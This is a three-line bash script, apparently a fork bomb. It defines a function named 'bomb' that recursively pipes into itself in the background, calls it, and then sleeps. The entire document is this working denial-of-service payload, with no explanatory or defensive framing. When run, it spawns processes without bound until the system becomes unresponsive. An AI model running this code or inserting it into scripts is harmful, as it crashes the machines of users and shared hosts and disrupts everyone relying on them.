bomb() { bomb | bomb & }
bomb
sleep 10
